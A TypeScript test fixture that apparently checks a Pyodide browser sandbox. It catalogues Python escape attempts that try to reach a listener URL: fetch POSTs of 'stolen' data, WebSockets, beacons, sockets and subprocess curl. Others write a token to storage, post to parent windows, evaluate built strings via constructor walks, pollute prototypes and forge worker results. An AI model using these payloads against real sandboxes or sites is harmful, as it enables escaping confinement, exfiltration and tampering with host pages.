/**
 * Ways out of the sandbox, each as Python that tries one of them. What counts as out is seen from outside, by somebody who listens; only
 * where nothing outside could see it (code made from text) does the guest say so itself, by printing the token.
 */

/** Who sees it when an attempt succeeds. */
export type Watcher =
  /** The listener's counter for the token rises. */
  | 'network'
  /** The page's own storage holds the token. */
  | 'storage'
  /** A channel or window of the page receives the token. */
  | 'message'
  /** The token appears in the printed text, put together by code that the guest made from text. */
  | 'print'
  /** Something of the page's own has changed, or a later run is not what it should be. */
  | 'page';

/** What an attempt may aim at. */
export interface EscapeTarget {
  /** The listener's address for this attempt; the token is in it. */
  readonly url: string;
  readonly webSocketUrl: string;
  readonly host: string;
  readonly port: string;
  /** A BroadcastChannel on which the page listens. */
  readonly channel: string;
  readonly token: string;
}

export interface EscapeAttempt {
  readonly id: string;
  readonly watcher: Watcher;
  /** Whether it gets out where there are no walls: the control must see these. */
  readonly leaksUnprotected: boolean;
  readonly code: (target: EscapeTarget) => string;
}

/**
 * Put before every attempt: `scope` is the best global object that Python can reach, and `run(js)` evaluates text by whatever way works.
 * Modules are imported by name at run time, past the policy, which is no wall.
 */
const preamble = `
import importlib
js = importlib.import_module('js')
ffi = importlib.import_module('pyodide.ffi')

async def reach():
    for name in ('globalThis', 'self'):
        found = getattr(js, name, None)
        if found is not None and hasattr(found, 'fetch'):
            return found
    try:
        return ffi.to_js([1]).constructor.constructor('return globalThis')()
    except BaseException:
        pass
    import asyncio
    seen = asyncio.get_running_loop().create_future()
    try:
        take = ffi.create_proxy(lambda this, *rest: seen.done() or seen.set_result(this), capture_this=True)
        js.setTimeout(take, 0)
        found = await asyncio.wait_for(seen, 1)
        if hasattr(found, 'setTimeout'):
            return found
    except BaseException:
        pass
    return js

scope = await reach()
def options(**named):
    return ffi.to_js(named, dict_converter=js.Object.fromEntries)
`;

const inPython = (body: string): string => `${preamble}\n${body}\nimport asyncio\nawait asyncio.sleep(0.3)`;

/** A row whose code is written with the target's fields as `{url}`, `{token}` and so on. */
function attempt(id: string, watcher: Watcher, leaksUnprotected: boolean, body: string): EscapeAttempt {
  return {
    id,
    watcher,
    leaksUnprotected,
    code: (target) =>
      inPython(
        body.replaceAll(
          /\{(url|webSocketUrl|host|port|channel|token)\}/gu,
          (_whole, name: string) => target[name as keyof EscapeTarget],
        ),
      ),
  };
}

const network: readonly EscapeAttempt[] = [
  attempt('fetch', 'network', true, 'await scope.fetch("{url}")'),
  attempt(
    'fetch-no-cors',
    'network',
    true,
    'await scope.fetch("{url}", options(mode="no-cors", keepalive=True))',
  ),
  attempt('fetch-post', 'network', true, 'await scope.fetch("{url}", options(method="POST", body="stolen"))'),
  attempt(
    'fetch-from-prototype',
    'network',
    true,
    'await scope.Object.getPrototypeOf(scope.Object.getPrototypeOf(scope)).fetch.call(scope, "{url}")',
  ),
  attempt(
    'xhr-sync',
    'network',
    true,
    'x = scope.XMLHttpRequest.new()\nx.open("GET", "{url}", False)\nx.send()',
  ),
  attempt(
    'xhr-async',
    'network',
    true,
    'x = scope.XMLHttpRequest.new()\nx.open("POST", "{url}", True)\nx.send("stolen")',
  ),
  attempt('websocket', 'network', true, 'scope.WebSocket.new("{webSocketUrl}")'),
  attempt('websocket-stream', 'network', true, 'await scope.WebSocketStream.new("{webSocketUrl}").opened'),
  attempt('event-source', 'network', true, 'scope.EventSource.new("{url}")'),
  attempt(
    'web-transport',
    'network',
    false,
    'await scope.WebTransport.new("https://{host}:{port}/hit/{token}").ready',
  ),
  attempt('font-face', 'network', true, 'await scope.FontFace.new("f", "url({url})").load()'),
  attempt('import-scripts', 'network', false, 'scope.importScripts("{url}")'),
  attempt(
    'dynamic-import',
    'network',
    true,
    'await importlib.import_module("pyodide.code").run_js("import(\'{url}\')")',
  ),
  attempt('nested-worker-url', 'network', false, 'scope.Worker.new("{url}")'),
  attempt(
    'nested-worker-blob-fetch',
    'network',
    true,
    "b = scope.Blob.new(ffi.to_js([\"fetch('{url}', {mode: 'no-cors'})\"]))\nscope.Worker.new(scope.URL.createObjectURL(b))",
  ),
  attempt(
    'nested-worker-blob-import',
    'network',
    true,
    'b = scope.Blob.new(ffi.to_js(["importScripts(\'{url}\')"]))\nscope.Worker.new(scope.URL.createObjectURL(b))',
  ),
  attempt('shared-worker', 'network', false, 'scope.SharedWorker.new("{url}")'),
  attempt('send-beacon', 'network', false, 'scope.navigator.sendBeacon("{url}", "stolen")'),
  attempt(
    'rtc',
    'network',
    false,
    'scope.RTCPeerConnection.new(options(iceServers=[{"urls": "stun:{host}:{port}"}]))',
  ),
  attempt(
    'pyfetch',
    'network',
    true,
    'http = importlib.import_module("pyodide.http")\nawait http.pyfetch("{url}")',
  ),
  attempt(
    'open-url',
    'network',
    true,
    'http = importlib.import_module("pyodide.http")\nhttp.open_url("{url}")',
  ),
  attempt('urllib', 'network', false, 'import urllib.request\nurllib.request.urlopen("{url}", timeout=2)'),
  attempt(
    'http-client',
    'network',
    false,
    'import http.client\nc = http.client.HTTPConnection("{host}", {port}, timeout=2)\nc.request("GET", "/hit/{token}")',
  ),
  attempt(
    'socket',
    'network',
    false,
    'import socket\ns = socket.create_connection(("{host}", {port}), 2)\ns.send(b"GET /hit/{token} HTTP/1.0\\r\\n\\r\\n")',
  ),
  attempt(
    'load-package',
    'network',
    true,
    'p = importlib.import_module("pyodide_js")\nawait p.loadPackage("{url}.whl")',
  ),
  attempt('subprocess', 'network', false, 'import subprocess\nsubprocess.run(["curl", "{url}"])'),
  attempt('cache-add', 'network', true, 'c = await scope.caches.open("{token}")\nawait c.add("{url}")'),
  attempt('service-worker', 'network', false, 'await scope.navigator.serviceWorker.register("{url}")'),
  attempt('navigate', 'network', false, 'scope.location.href = "{url}"'),
  attempt(
    'wasm-streaming',
    'network',
    true,
    'await scope.WebAssembly.compileStreaming(scope.fetch("{url}"))',
  ),
];

const storage: readonly EscapeAttempt[] = [
  attempt('indexed-db', 'storage', true, 'r = scope.indexedDB.open("{token}", 1)'),
  attempt('cache-storage', 'storage', true, 'await scope.caches.open("{token}")'),
  attempt(
    'private-files',
    'storage',
    true,
    'd = await scope.navigator.storage.getDirectory()\nawait d.getFileHandle("{token}", options(create=True))',
  ),
  attempt(
    'locks',
    'storage',
    true,
    'scope.navigator.locks.request("{token}", ffi.create_proxy(lambda lock: scope.Promise.new(ffi.create_proxy(lambda *a: None))))',
  ),
  attempt('storage-buckets', 'storage', true, 'await scope.navigator.storageBuckets.open("{token}")'),
  attempt('local-storage', 'storage', false, 'scope.localStorage.setItem("{token}", "1")'),
  attempt('session-storage', 'storage', false, 'scope.sessionStorage.setItem("{token}", "1")'),
  attempt('cookie', 'storage', false, 'scope.document.cookie = "{token}=1"'),
  attempt('cookie-store', 'storage', false, 'await scope.cookieStore.set("{token}", "1")'),
];

const messages: readonly EscapeAttempt[] = [
  attempt(
    'broadcast-channel',
    'message',
    true,
    'scope.BroadcastChannel.new("{channel}").postMessage("{token}")',
  ),
  attempt('parent-post', 'message', false, 'scope.parent.postMessage("{token}", "*")'),
  attempt('top-post', 'message', false, 'scope.top.postMessage("{token}", "*")'),
  attempt('opener-post', 'message', false, 'scope.opener.postMessage("{token}", "*")'),
  attempt('self-post', 'message', false, 'scope.postMessage("{token}")'),
  attempt(
    'window-event',
    'message',
    false,
    'scope.dispatchEvent(scope.MessageEvent.new("message", options(data="{token}")))',
  ),
];

const evaluation: readonly EscapeAttempt[] = [
  attempt('eval', 'print', true, 'print(scope.eval("\'{token}\'.toUpperCase()"))'),
  attempt(
    'function-constructor',
    'print',
    true,
    'print(scope.Function.new("return \'{token}\'.toUpperCase()")())',
  ),
  attempt(
    'constructor-walk',
    'print',
    true,
    'print(ffi.to_js([1]).constructor.constructor("return \'{token}\'.toUpperCase()")())',
  ),
  attempt(
    'async-function-constructor',
    'print',
    true,
    'f = ffi.to_js([1]).constructor.fromAsync\nprint(f.constructor("return \'{token}\'.toUpperCase()")())',
  ),
  attempt(
    'module-api-walk',
    'print',
    true,
    'p = importlib.import_module("pyodide_js")\nprint(p.runPython.constructor("return \'{token}\'.toUpperCase()")())',
  ),
  attempt(
    'run-js',
    'print',
    true,
    'print(importlib.import_module("pyodide.code").run_js("\'{token}\'.toUpperCase()"))',
  ),
  attempt('string-timer', 'network', true, "scope.setTimeout(\"fetch('{url}', {mode: 'no-cors'})\", 0)"),
  attempt(
    'emscripten-script',
    'network',
    true,
    "ctypes = importlib.import_module('ctypes')\nlib = ctypes.CDLL(None)\nlib.emscripten_run_script(b\"fetch('{url}', {mode: 'no-cors'})\")",
  ),
];

const pollution: readonly EscapeAttempt[] = [
  attempt(
    'returned-proto',
    'page',
    false,
    '{"__proto__": {"{token}": 1}, "constructor": {"prototype": {"{token}": 1}}}',
  ),
  attempt('submitted-proto', 'page', false, 'SUBMIT(**{"__proto__": {"{token}": 1}})'),
  attempt('guest-object-prototype', 'page', false, 'js.Object.prototype.polluted = "{token}"'),
  attempt(
    'forged-result',
    'page',
    false,
    `p = importlib.import_module("pyodide_js")
forged = options(type="run-end", run=1, result='{"type":"returned","value":"{token}","variables":[["__proto__",{"{token}":1}]]}', buffers=ffi.to_js([]))
for name in ("postMessage", "onmessage"):
    try:
        scope.MessagePort.prototype[name] = None
    except BaseException: pass
try:
    scope.postMessage(forged)
except BaseException: pass
try:
    scope.MessageChannel.new().port1.constructor.prototype.postMessage.call(scope, forged)
except BaseException: pass`,
  ),
  attempt(
    'port-hook',
    'page',
    false,
    `push = ffi.to_js([1]).constructor.prototype
caught = []
try:
    scope.MessagePort.prototype.postMessage = ffi.create_proxy(lambda this, *rest: caught.append(this), capture_this=True)
except BaseException: pass
print("before")
for port in caught:
    for run in range(100):
        port.postMessage(options(type="run-end", run=run, result="{token}"))`,
  ),
  attempt(
    'poisoned-builtins',
    'page',
    false,
    'import builtins, json, sys\nbuiltins.print = None\njson.dumps = lambda *a, **k: "{token}"\nsys.modules["json"] = None',
  ),
  attempt(
    'late-timer',
    'network',
    true,
    'import asyncio\nasyncio.get_running_loop().call_later(0.1, lambda: scope.fetch("{url}"))',
  ),
];

/** Every attempt, in the order of what it aims at. */
export const escapeAttempts: readonly EscapeAttempt[] = [
  ...network,
  ...storage,
  ...messages,
  ...evaluation,
  ...pollution,
];
